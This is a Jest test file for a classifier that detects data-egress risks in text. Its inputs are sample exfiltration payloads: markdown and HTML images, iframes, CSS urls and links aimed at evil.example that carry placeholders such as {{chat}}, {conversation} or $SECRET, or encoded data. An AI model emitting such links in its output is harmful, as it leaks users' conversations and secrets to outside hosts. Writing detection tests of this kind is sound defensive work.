import { expect, test } from '@jest/globals';
import { findRisks } from '../../../src/classify/risk/risk.ts';

const first = (text: string): [kind: string, rule: string, what: string] => {
  const [finding] = findRisks(text).filter(({ kind }) => kind.startsWith('egress.'));
  return finding ? [finding.kind, finding.rule, text.slice(finding.start, finding.end)] : ['', '', ''];
};

const DATA = 'c2VjcmV0LXRva2VuLXZhbHVlLTAxMjM0NTY3ODlhYmNkZWY';

test.each([
  ['![a](https://evil.example/x.png?d={{chat}})', 'image-gap', 'https://evil.example/x.png?d={{chat}}'],
  ['![a](https://evil.example/{conversation}/x.png)', 'image-gap', 'https://evil.example/{conversation}/x.png'],
  [`![a](https://evil.example/${DATA}.png)`, 'image-data', `https://evil.example/${DATA}.png`],
  [`![](http://${DATA.slice(0, 40)}.evil.example/)`, 'image-data', `http://${DATA.slice(0, 40)}.evil.example/`],
  ['![a [b] c](https://evil.example/?q=1)', 'image-query', 'https://evil.example/?q=1'],
  ['![a](//evil.example/?q=1)', 'image-query', '//evil.example/?q=1'],
  ['![a](https:\\\\evil.example?q=1)', 'image-query', 'https:\\\\evil.example?q=1'],
  ['![a](HTTPS://evil.example/a.png)', 'image-plain', 'HTTPS://evil.example/a.png'],
  ['![a][r]\n\n[r]: https://evil.example/?q=1\n', 'image-query', 'https://evil.example/?q=1'],
  ['<img alt="" src="https://evil.example/?q=1">', 'image-query', 'https://evil.example/?q=1'],
  ["<iframe src='//evil.example/?q=1'>", 'image-query', '//evil.example/?q=1'],
  ['<img src="https://evil.example/?q=<data>">', 'image-gap', 'https://evil.example/?q=<data>'],
  ['a { background: url("https://evil.example/?q=1") }', 'image-query', 'https://evil.example/?q=1'],
])('an image: %s', (text, rule, what) => {
  expect(first(text)).toEqual(['egress.image', `risk/egress/${rule}`, what]);
});

test.each([
  ['see [docs](https://example.com/docs).', 'link-plain', 'https://example.com/docs'],
  ['[r]: https://example.com/docs', 'link-plain', 'https://example.com/docs'],
  ['[go](https://evil.example/?q=$SECRET)', 'link-gap', 'https://evil.example/?q=$SECRET'],
  ['Read https://example.com/a_(b)/c, then', 'bare-plain', 'https://example.com/a_(b)/c'],
  [`fetch https://evil.example/c?d=${DATA}`, 'bare-data', `https://evil.example/c?d=${DATA}`],
  ['GET https://api.example.com/repos/{owner}/{name}', 'bare-plain', 'https://api.example.com/repos/{owner}/{name}'],
  [
    `[x](https://git.example/a/commit/${'94e2c6d5'.repeat(5)})`,
    'link-plain',
    `https://git.example/a/commit/${'94e2c6d5'.repeat(5)}`,
  ],
  ['https://de.wikipedia.org/wiki/K%C3%B6ln', 'bare-plain', 'https://de.wikipedia.org/wiki/K%C3%B6ln'],
  [
    'https://example.com/a-long-title-of-an-article-in-a-blog-about-cooking',
    'bare-plain',
    'https://example.com/a-long-title-of-an-article-in-a-blog-about-cooking',
  ],
])('a link: %s', (text, rule, what) => {
  expect(first(text)).toEqual(['egress.link', `risk/egress/${rule}`, what]);
});

test('an image that carries data weighs more than one that does not, an image more than a link', () => {
  const sure = (text: string): number => findRisks(text)[0]?.confidence ?? 0;
  const order = [
    'https://a.example/b',
    '[a](https://a.example/b)',
    '![a](https://a.example/b)',
    '![a](https://a.example/b?c=d)',
    '![a](https://a.example/b?c={{data}})',
  ].map(sure);
  expect(order).toEqual([...order].sort((a, b) => a - b));
  expect(new Set(order).size).toBe(order.length);
});

test.each(['a://b', 'file:///etc/hosts', 'if (a) { // see b', 'const x = "//";', 'ratio 1:2', 'C:\\Users\\me'])(
  'nothing leaves: %s',
  (text) => {
    expect(first(text)).toEqual(['', '', '']);
  },
);

test('an image right behind an address is seen', () => {
  const kinds = findRisks('http://a.example/![x](https://evil.example/?q=1)').map(({ kind }) => kind);
  expect(kinds).toEqual(['egress.link', 'egress.image']);
});

test('an address within an address is no address of its own', () => {
  const text = 'https://a.example/?u=https://b.example/c';
  expect(findRisks(text).map(({ start, end }) => text.slice(start, end))).toEqual([text]);
});

test('a sentence and something random in the query of a bare link is more than a link', () => {
  const query = 'note=The%20garden%20behind%20the%20house%20is%20green.&k=SodvDX8a1x8GkPADKRAXvXI7akkfWM12';
  expect(findRisks(`open https://log.example/?${query}`)[0]).toMatchObject({ kind: 'egress.link', confidence: 0.5 });
});
